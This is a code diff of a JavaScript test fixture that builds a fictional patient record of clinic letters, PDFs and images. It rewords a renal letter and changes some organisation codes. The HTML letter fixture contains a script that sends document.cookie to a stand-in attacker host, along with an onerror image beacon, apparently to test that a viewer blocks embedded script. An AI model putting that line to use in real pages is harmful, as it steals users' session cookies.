@@ -11,7 +11,7 @@ const asPdf = (...pages) => ({ contentType: 'application/pdf', bytes: pdf(pages)
 const HTML = `<!DOCTYPE html>
 <html lang="en-GB"><head><title>Clinic letter</title><style>body{font-family:serif}</style></head><body onload="document.title='ran'">
 <h1>Renal clinic letter</h1><p>Dear Dr Fallowmere,</p>
-<p>Thank you for referring <b>Mrs Fernilee</b>. Her potassium is <em>5.10 mmol/L</em> (range 3.5&ndash;5.3).</p>
+<p>I reviewed <b>Mrs Fernilee</b> after her admission in March. Her potassium is <em>5.10 mmol/L</em> (range 3.5&ndash;5.3). I have discharged her from the clinic; please refer her again should it rise.</p>
 <script>window.top.demoScriptRan = true; fetch('https://attacker.invalid/?' + document.cookie)</script>
 <img src="https://attacker.invalid/pixel.png" onerror="window.top.demoScriptRan = true" alt="">
 <table><tr><th>Date</th><th>eGFR</th></tr><tr><td>07-Jul-2026</td><td>45</td></tr></table></body></html>`;
@@ -29,12 +29,12 @@ export function addDocuments(record) {
   addDocument(record, { title: 'ReSPECT form', kind: KIND.respect(), category: KIND.plan(), ...asPdf(page('ReSPECT', 'CPR attempts NOT recommended.', 'Hospital treatment wanted for reversible illness. Not for intensive care.')), date: at('2026-03-18', '16:45'), ods: 'RTG', by: 'wardDoctor' });
   addDocument(record, { title: 'Rheumatology clinic letter', kind: KIND.letter(), ...asPdf(page('Clinic letter', 'Methotrexate 15 mg once a week continues.')), date: at('2026-07-15', '10:02'), ods: 'RTG', by: 'rheumatologist', setting: 'Rheumatology' });
   addDocument(record, { title: 'Renal clinic letter', kind: KIND.letter(), contentType: 'text/html', bytes: Buffer.from(HTML), date: at('2026-07-21', '12:00'), ods: 'RTG', by: 'nephrologist', setting: 'Nephrology' });
-  addDocument(record, { title: 'Cardiology letter', kind: KIND.letter(), ...plain('Cardiology, Chesterfield Royal Hospital\n\nAtrial fibrillation, rate controlled.\nContinue warfarin, target INR 2.0-3.0.\n\tReview in twelve months.\n'), date: '2025-11-06', ods: 'RFS', by: 'cardiologist' });
+  addDocument(record, { title: 'Cardiology letter', kind: KIND.letter(), ...plain('Cardiology, Chesterfield Royal Hospital\n\nAtrial fibrillation, rate controlled.\nContinue warfarin, target INR 2.0-3.0.\n\tReview in twelve months.\n'), date: '2025-11-06', ods: 'C8X901', by: 'cardiologist' });
   addDocument(record, { title: 'Referral to nephrology', kind: KIND.referral(), ...plain('Dear colleague,\n\nPotassium 5.7 mmol/L, eGFR 42.\nRamipril stopped today.\n'), date: at('2026-11-18', '16:34'), ods: 'C8X901', by: 'gp' });
   addDocument(record, { title: 'Out of hours consultation', kind: KIND.letter(), ...plain('Telephone consultation, 25-Oct-2026 01:40.\nDysuria. Advised to see own GP.\n'), date: at('2026-10-25', '02:05'), ods: 'X9D01', by: 'outOfHours' });
   addDocument(record, { title: 'Personalised care and support plan (signed copy)', kind: KIND.plan(), ...asPdf(page('Care and support plan', 'See the plan of 20-Sep-2026.')), date: at('2026-09-20', '12:10'), ods: 'RY8', by: 'districtNurse' });
   addDocument(record, { title: 'Photograph, left lower leg wound', kind: KIND.image(), contentType: 'image/png', bytes: png(320, 240, wound), date: at('2026-10-06', '10:20'), ods: 'RY8', by: 'districtNurse' });
-  addDocument(record, { title: 'Lung function report', kind: KIND.procedure(), ...asPdf(page('Spirometry', 'FEV1 1.62 L (74% predicted), FEV1/FVC 0.68.')), date: '2024-01', ods: 'RFS' });
+  addDocument(record, { title: 'Lung function report', kind: KIND.procedure(), ...asPdf(page('Spirometry', 'FEV1 1.62 L (74% predicted), FEV1/FVC 0.68.')), date: '2024-01', ods: 'RTG' });
   addDocument(record, { title: 'Scanned letter, 1998', kind: KIND.letter(), contentType: 'image/tiff', bytes: tiff(320, 440), date: '1998', ods: 'C8X901' });
   addDocument(record, { title: 'Safeguarding case conference minutes', kind: KIND.letter(), ...asPdf(page('Minutes', 'Not released.')), date: at('2026-10-02', '15:00'), ods: 'X9C01', by: 'socialWorker', released: false, secret: true });
   addDocument(record, { title: 'Financial assessment', kind: KIND.plan(), ...plain('Assessment under way.\n'), date: '2026-11', ods: 'X9C01', docStatus: 'preliminary' });
